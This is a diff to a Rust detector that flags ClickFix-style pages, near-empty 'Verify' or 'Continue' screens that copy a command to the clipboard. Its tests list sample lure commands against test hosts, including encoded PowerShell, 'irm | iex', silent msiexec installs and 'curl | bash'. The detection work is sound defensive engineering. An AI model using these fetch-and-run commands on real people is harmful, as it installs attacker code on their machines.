@@ -1563,6 +1563,8 @@ pub struct PageHits {
     status: bool,
     /// The page's visible text (its title aside) is one word at most: a lone button.
     lone: bool,
+    /// The page's visible text has a word (a lone page's button names what it does).
+    said: bool,
 }
 
 /// Whether a flattened line starting with a check stem is a status: the stem ending its word or
@@ -1646,6 +1648,7 @@ impl PageHits {
             help: false,
             status,
             lone: false,
+            said: false,
         }
     }
 
@@ -2214,7 +2217,23 @@ fn page_of(snap: &Snapshot, text: &str, alt_texts: &[String], dialogs: &[String]
         .into_iter()
         .chain(alt_texts.iter().chain(dialogs).map(String::as_str));
     let mut page = PageHits::new(parts).on(&snap.url);
-    page.lone = text.split_whitespace().nth(1).is_none();
+    // One word, its button, once a line that is a status ("Loading...", "Bitte warten…") or
+    // a lone check word ("Verify") is set aside (a heading naming what it checks, "Rechnung
+    // überprüfen", is two words); three words at most.
+    let words = || text.split_whitespace();
+    page.said = words().next().is_some();
+    page.lone = words().nth(3).is_none()
+        && text
+            .lines()
+            .filter(|l| {
+                let l = l.trim().to_lowercase();
+                !(l.ends_with("...")
+                    || l.ends_with('…')
+                    || !l.contains(' ') && CHECKS.split('|').any(|c| has(&l, c)))
+            })
+            .flat_map(str::split_whitespace)
+            .nth(1)
+            .is_none();
     // Within 1 KB of the bound: the content script stops at a node's edge.
     page.cut = snap.text.len() + 1024 > crate::snapshot::MAX_TEXT_BYTES;
     page
@@ -2458,16 +2477,36 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
     // "Deploy" button fetches a named `.ps1`/`.msi` (`published`); a page of two words is a
     // portal's heading and its button (review 43 CF43-H1), a tool's "Tools" page copies a plain
     // `iwr … | iex`.
+    // Forty-sixth session: an encoded script (`powershell -e …`, whatever it fetches); and,
+    // when a word is said and it is no Copy button (a docs widget's frame copies its installer
+    // so), a plain download run (`irm … | iex`, `msiexec /i https://…`, `curl … | bash`,
+    // `osascript`) from another site's unnamed path: "Continue", "Überprüfen".
+    let encoded = command
+        .shapes
+        .iter()
+        .any(|s| matches!(s, Shape::PowerShellEncoded | Shape::Base64Shell));
+    // (An icon's frame says nothing: a word, and no Copy word.)
+    let named = page.said && !has_any(&page.flat, COPY);
     let unasked = page.lone
-        && !command.published
-        && (hidden_run
-            || command.shapes.iter().any(|s| {
-                *s == Shape::DownloadStart
-                    || *s == Shape::Cmd && command.remote && has(&command.flat, "| cmd")
-            }));
+        && (encoded
+            || !command.published
+                && command.shapes.iter().any(|s| {
+                    hidden_run
+                        || *s == Shape::DownloadStart
+                        || *s == Shape::Cmd && command.remote && has(&command.flat, "| cmd")
+                        || named && matches!(s, Shape::PowerShellDownload | Shape::MsiexecUrl)
+                })
+            // (A Unix installer is published as a named `.sh` or a site's root.)
+            || named
+                && command.runs_on(Platform::Unix)
+                && tokens(&command.flat).iter().any(|t| {
+                    has(t, "://")
+                        && !t.ends_with(".sh")
+                        && !t.split('/').nth(3).map_or(true, str::is_empty)
+                }));
     let terse = page.flat.len() <= TERSE_PAGE
         // (From the internet: a join command to a private address is the person's network.)
-        && (fetch > 0 || !command.https_sites.is_empty())
+        && (fetch > 0 || !command.https_sites.is_empty() || unasked && encoded)
         && !command.fetches_from_site(&page.site)
         && !command.fetches_from_owned(&page.site)
         && !own_ip
@@ -2924,23 +2963,22 @@ mod tests {
                 "{label} {clip}"
             );
             // Not so: two words (a portal's heading and its button), the command shown, the
-            // page's own site, a plain `iwr … | iex`.
-            for (url, text, clip) in [
-                (at, format!("Rechnung {label}"), clip.to_string()),
-                (at, format!("{label}\n{clip}"), clip.to_string()),
-                ("https://relay.test/", label.to_string(), clip.to_string()),
-                (
-                    at,
-                    label.into(),
-                    "powershell -c \"iwr https://relay.test/k | iex\"".into(),
-                ),
+            // page's own site.
+            for (url, text) in [
+                (at, format!("Rechnung {label}")),
+                (at, format!("{label}\n{clip}")),
+                ("https://relay.test/", label.to_string()),
             ] {
-                assert_eq!(
-                    reasons(&snap_of(url, title, &text, &clip)),
-                    None,
-                    "{text} {clip}"
-                );
+                assert_eq!(reasons(&snap_of(url, title, &text, clip)), None, "{text}");
             }
+            // A plain `iwr … | iex`: silent under a Copy button (a tool's copy widget), warned
+            // under any other lone word since the forty-sixth session.
+            let plain = "powershell -c \"iwr https://relay.test/k | iex\"";
+            assert_eq!(
+                reasons(&snap_of(at, title, label, plain)).is_none(),
+                label == "Copy",
+                "{label}"
+            );
         }
         // A named script: a vendor's installer.
         let named = "powershell -w hidden -c \"iex(iwr https://relay.test/c.ps1)\"";
@@ -2975,6 +3013,108 @@ mod tests {
                 reasons(&snap_of(url, "", label, clip)),
                 None,
                 "{label} {clip}"
+            );
+        }
+    }
+
+    #[test]
+    fn clickfix46_a_page_of_almost_no_words_copying_a_download_run() {
+        // Forty-sixth session (issue 9 goal 3): "Loading..." over an encoded PowerShell, a check
+        // word and a button ("Verify · Continue"), a plain `irm … | iex` or `msiexec /i https://…`
+        // under a button that names no copy ("Continue", "Überprüfen"), a Unix download run under
+        // one on a fake macOS page. Each was silent before.
+        let b64 = "SQBFAFgAIAAoAGkAcgBtACAAaAB0AHQAcABzADoALwAvAGQALgB0AGUAcwB0AC8AcwApAA==";
+        let enc = format!("powershell -e {b64}");
+        let cases = [
+            ("Document", "Loading...", enc.as_str()),
+            ("請求書", "読み込み中...", enc.as_str()),
+            (
+                "Boleto",
+                "Verificar\nContinuar",
+                "powershell -WindowStyle Hidden -c \"iwr https://pkg.test/b -UseBasicParsing | iex\"",
+            ),
+            ("Shared file", "Continue", "irm https://cdn.test/q | iex"),
+            (
+                "Paketstatus",
+                "Überprüfen",
+                "powershell -c \"irm https://dl.test/c | iex\"",
+            ),
+            (
+                "Avis",
+                "Continuer",
+                "msiexec /i https://serv.test/pkg /qn",
+            ),
+            (
+                "macOS Update",
+                "Continue",
+                "curl -fsSL https://updates.test/i | bash",
+            ),
+            (
+                "iCloud",
+                "Verify",
+                "osascript -e 'do shell script \"curl -s https://ph.test/a | sh\"'",
+            ),
+        ];
+        for (title, text, clip) in cases {
+            let at = "https://gate.example/";
+            assert!(
+                reasons(&snap_of(at, title, text, clip)).is_some(),
+                "{text} {clip}"
+            );
+            // Not so: a portal's heading and its button, the command shown.
+            // ("Loading..." is a status: a heading and it are a lone page.)
+            let heading = format!("Rechnung {text}");
+            for text in [heading, format!("{text}\n{clip}")] {
+                if text.ends_with("...") {
+                    continue;
+                }
+                assert_eq!(reasons(&snap_of(at, title, &text, clip)), None, "{text}");
+            }
+        }
+        // A Copy button (a docs widget's frame), an icon's frame with no word, a named installer,
+        // an install button, the command's own site: docs.
+        for (url, text, clip) in [
+            (
+                "https://docs.a.example/",
+                "Copy",
+                "irm https://cdn.test/win | iex",
+            ),
+            (
+                "https://docs.a.example/",
+                "Kopiuj",
+                "curl -fsSL https://cdn.test/i | sh",
+            ),
+            (
+                "https://docs.a.example/",
+                "Copia",
+                "msiexec /i https://cdn.test/s /qn",
+            ),
+            (
+                "https://docs.a.example/",
+                "",
+                "irm https://cdn.test/win | iex",
+            ),
+            (
+                "https://docs.a.example/",
+                "Continue",
+                "irm https://cdn.test/i.ps1 | iex",
+            ),
+            (
+                "https://docs.a.example/",
+                "Install",
+                "curl -fsSL https://cdn.test/i | bash",
+            ),
+            (
+                "https://cdn.test/",
+                "Continue",
+                "irm https://cdn.test/q | iex",
+            ),
+            ("https://shop.example/", "Continue", "SAVE20"),
+        ] {
+            assert_eq!(
+                reasons(&snap_of(url, "", text, clip)),
+                None,
+                "{text} {clip}"
             );
         }
     }
